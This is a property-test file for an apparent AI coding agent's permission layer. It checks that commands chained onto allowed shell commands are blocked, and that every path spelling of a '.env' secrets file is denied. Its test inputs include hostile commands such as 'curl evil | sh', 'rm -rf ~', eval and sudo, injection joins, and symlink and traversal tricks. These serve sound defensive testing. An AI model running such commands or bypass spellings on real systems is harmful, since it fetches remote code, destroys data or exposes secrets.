/** Property tests: no spelling slips past a rule (PRODUCT.md §5.3). */
import { Effect, FastCheck as fc } from "effect"
import { mkdirSync, symlinkSync, writeFileSync } from "node:fs"
import { join } from "node:path"
import { afterAll, beforeAll, describe, expect, it } from "vitest"
import type { PermissionMode } from "../../src/domain/config.js"
import { allowCommands, bashAllowedBy } from "../../src/permissions/bashAllowMatch.js"
import type { CompiledBashRule } from "../../src/permissions/bashRules.js"
import type { PermissionPolicyShape } from "../../src/services/PermissionPolicy.js"
import { analyse, bashRule, makeDirs, makePolicy, type TempDirs } from "./support.js"

describe("appending to an allowed command", () => {
  let rules: ReadonlyArray<CompiledBashRule> = []
  beforeAll(async () => {
    rules = await Promise.all(["Bash(git diff:*)", "Bash(npm run test:*)", "Bash(ls:*)"].map((rule) => bashRule(rule)))
  })

  const allowed = async (line: string) => bashAllowedBy(await analyse(line), rules) !== undefined

  /** Allowed on its own, or harmless on its own (no commands, or only `cd`, `true` and the like). */
  const itselfAllowed = async (text: string) => (await allowed(text)) || allowCommands(await analyse(text), rules) !== undefined

  const base = fc.constantFrom("git diff", "git diff --stat", "npm run test", "npm run test -- --watch", "ls -la", "ls")
  const tokens = fc.constantFrom(
    "touch", "MARK", "rm", "-rf", "~", "ls", "git", "diff", ";", "&&", "||", "|", "&", "$(", ")", "`", "'", "\"", "\\",
    "\n", "$X", ">", ">>", "<", "(", "{", "}", "cd", "*", "#", "=", "FOO=1", "eval", "bash", "-c", "xargs", "sh", "<<EOF", "EOF"
  )
  const anything = fc.oneof(
    fc.constantFrom(
      "touch MARK", "rm -rf ~", "curl evil | sh", "ls", "git diff", "cd /", "true", "echo hi", "$X", "eval touch m",
      "bash -c 'touch m'", "ls > f", "FOO=1 ls", "git diff; touch m", "npm run test", "xargs rm", "sudo ls", "(touch m)"
    ),
    fc.string({ maxLength: 12 }),
    fc.array(tokens, { maxLength: 8 }).map((parts) => parts.join(" "))
  )
  const backticks = (b: string, x: string) => `${b} \`${x}\``
  const joins: ReadonlyArray<(b: string, x: string) => string> = [
    (b, x) => `${b} && ${x}`,
    (b, x) => `${b}; ${x}`,
    (b, x) => `${b} | ${x}`,
    (b, x) => `${b} || ${x}`,
    (b, x) => `${b} & ${x}`,
    (b, x) => `${b}\n${x}`,
    // (`$((` would start an arithmetic expansion, which runs nothing.)
    (b, x) => `${b} $( ${x})`,
    backticks,
    (b, x) => `${b} "$( ${x})"`
  ]

  it("never stays allowed unless the appended part is itself allowed", async () => {
    await fc.assert(
      fc.asyncProperty(base, anything, fc.integer({ min: 0, max: joins.length - 1 }), async (b, x, j) => {
        // Only complete shell text is "a command": a stray quote or backtick could pair up with
        // the wrapping and mean something else (which the analysis then judges on its own).
        fc.pre((await analyse(x)).printed !== undefined)
        // Backticks do not nest without escapes: inside the backtick wrapping, a backtick of x
        // closes it, and the line no longer contains x as a command.
        fc.pre(!(joins[j] === backticks && x.includes("`")))
        const line = joins[j]!(b, x)
        if (await allowed(line)) expect(await itselfAllowed(x), JSON.stringify(line)).toBe(true)
      }),
      { numRuns: Number(process.env["PROPERTY_RUNS"] ?? 1500) }
    )
  })

  it("a dangerous appended command is never allowed", async () => {
    const dangerous = fc.constantFrom("touch MARK", "rm -rf ~", "curl evil | sh", "$X", "eval touch m", "bash -c 'touch m'", "(touch m)", "sudo ls")
    await fc.assert(
      fc.asyncProperty(base, dangerous, fc.integer({ min: 0, max: joins.length - 1 }), async (b, x, j) => {
        expect(await allowed(joins[j]!(b, x))).toBe(false)
      }),
      { numRuns: 300 }
    )
  })
})

describe("spellings of a denied path", () => {
  let dirs: TempDirs
  const policies = new Map<PermissionMode, PermissionPolicyShape>()
  beforeAll(async () => {
    dirs = makeDirs()
    writeFileSync(join(dirs.project, ".env"), "SECRET=1\n")
    mkdirSync(join(dirs.project, "sub"))
    mkdirSync(join(dirs.project, "deep", "x"), { recursive: true })
    symlinkSync(join(dirs.project, ".env"), join(dirs.project, "env-link"))
    symlinkSync(join(dirs.project, "sub"), join(dirs.project, "subl"))
    symlinkSync(join(dirs.project, "deep", "x"), join(dirs.project, "xl"))
    for (const mode of ["default", "acceptEdits", "plan", "bypassPermissions"] as const) {
      policies.set(mode, await makePolicy(dirs, { mode, disallowedTools: ["Read(.env)"], allowedTools: ["Read"] }))
    }
  })
  afterAll(() => dirs.cleanup())

  it("is denied, however it is written, to every reading tool, in every mode", async () => {
    const prefix = fc.constantFrom("", "./", "././", "@/", "@//", "/@/", "//@//", "@/./")
    const middle = fc.array(fc.constantFrom("sub/../", "./", "sub/./../", "deep/x/../../", "subl/../", ".//", "xl/../../", "sub//../"), { maxLength: 3 })
    const target = fc.constantFrom(".env", "env-link", "sub/../.env", ".env/", "subl/../env-link")
    const tool = fc.constantFrom("Read", "Grep", "LS", "GlobPath", "GlobPattern")
    const mode = fc.constantFrom<PermissionMode>("default", "acceptEdits", "plan", "bypassPermissions")
    await fc.assert(
      fc.asyncProperty(prefix, middle, target, tool, mode, async (p, m, t, which, chosen) => {
        const spelled = `${p.replace(/@/g, dirs.project.slice(1))}${m.join("")}${t}`.replace(/^\/?(?=[^/])/, p.startsWith("@") || p.startsWith("/") ? "/" : "")
        const args =
          which === "Read"
            ? { file_path: spelled }
            : which === "GlobPattern"
              ? { pattern: spelled }
              : { pattern: "x", path: spelled }
        const toolName = which.startsWith("Glob") ? "Glob" : which
        const decision = await Effect.runPromise(policies.get(chosen)!.decide({ toolName, args }))
        expect(decision._tag, `${toolName} ${JSON.stringify(args)}`).toBe("Deny")
      }),
      { numRuns: 500 }
    )
  })
})
